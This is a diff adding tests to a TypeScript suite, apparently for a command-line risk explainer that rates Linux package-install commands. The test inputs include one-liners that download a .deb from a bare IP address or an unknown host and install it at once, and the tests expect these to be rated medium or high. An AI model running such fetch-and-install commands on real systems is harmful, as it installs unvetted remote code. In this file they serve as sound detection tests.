@@ -185,3 +185,33 @@ describe("a program that comes with Windows and with products", () => {
     );
   });
 });
+
+describe("the package of a distribution", () => {
+  const levelOf = (line: string) =>
+    explain({ commandLine: line, platform: "linux" }, builtinCatalog()).explanation.verdict.level;
+
+  it.each([
+    "sh -c 'dpkg -i /tmp/kelp.deb && rm -f /tmp/kelp.deb'",
+    "sh -c 'apt-get install -y /tmp/pkgs/agent.deb'",
+    "sh -c 'dnf install -y /var/tmp/kelp-2.1.x86_64.rpm'",
+    "dpkg --unpack /tmp/kelp_2.1_amd64.deb",
+    "sh -c 'gem install /tmp/pkg/kelp-2.1.gem'",
+  ])("is laid down in /tmp to be installed: %s", (line) => expect(levelOf(line)).toBe("low"));
+
+  it.each([
+    "dpkg -i /dev/shm/kelp.deb",
+    "sh -c 'dpkg -i /tmp/.kelp/kelp.deb'",
+    "sh -c 'dpkg -i /tmp/x.deb'",
+    "sh -c 'wget -q http://203.0.113.5/kelp_2.1_amd64.deb && dpkg -i kelp_2.1_amd64.deb'",
+    "sh -c 'wget -q https://files.example.net/a.deb && dpkg -i a.deb'",
+  ])("is told of where it is hidden, nameless or anybody's: %s", (line) =>
+    expect(levelOf(line)).toMatch(/^(?:medium|high)$/),
+  );
+
+  it("is called so where the line has fetched it, and comes from the project that has released it", () => {
+    const release = "https://github.com/kelp-tools/kelp/releases/download/v2.1/kelp_2.1_amd64.deb";
+    const line = `sh -c 'wget -q ${release} && dpkg -i kelp_2.1_amd64.deb'`;
+    expect(sentence(line)).toContain(`has just fetched: the package ${release}`);
+    expect(levelOf(line)).toBe("low");
+  });
+});
